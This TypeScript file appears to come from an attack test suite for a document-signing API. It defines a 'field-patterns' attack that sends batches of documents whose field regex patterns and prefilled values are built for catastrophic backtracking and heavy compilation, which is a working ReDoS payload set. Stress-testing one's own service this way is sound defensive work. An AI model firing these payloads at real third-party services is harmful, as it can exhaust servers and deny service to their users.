/** Patterns of fields that are costly to compile or to match. */
import { type Attack, repeat, send } from '../attack.ts';

/** One API key creates documents with patterns that compile to large programs, and with values that take many steps to match. */
export const fieldPatterns: Attack = {
  name: 'field-patterns',
  description:
    'documents with 30 patterns like a{0,1000} × 100, and long values against costly patterns; 8 at once',
  run: async (target) => {
    const field = (pattern: string, value?: string) => ({
      type: 'text',
      page: 1,
      x: 0.1,
      y: 0.1,
      w: 0.3,
      h: 0.05,
      recipient_index: 0,
      settings: { pattern },
      ...(value !== undefined && { prefill_value: value }),
    });
    const document = (fields: object[]) =>
      JSON.stringify({ title: 'Patterns', recipients: [{ name: 'A', email: 'a@example.test' }], fields });
    const bodies = [
      document(Array.from({ length: 30 }, () => field('a{0,1000}'.repeat(100)))),
      document(Array.from({ length: 30 }, (_, at) => field(`(?i)[a-z${at}\\p{L}]{0,900}`))),
      document([field('(x?){0,60}(x|xx|xxx)*y'.repeat(8), 'x'.repeat(10_000))]),
      document(Array.from({ length: 400 }, () => field('(x|xx|xxx|xxxx)*y', 'x'.repeat(1000)))),
      document(Array.from({ length: 5 }, () => field('(?:.?){0,400}', 'x'.repeat(1000)))),
    ];
    await repeat(target, 8, (number) =>
      send(target, { path: '/v1/documents', key: target.liveKey, body: bodies[number % bodies.length]! }),
    );
  },
};
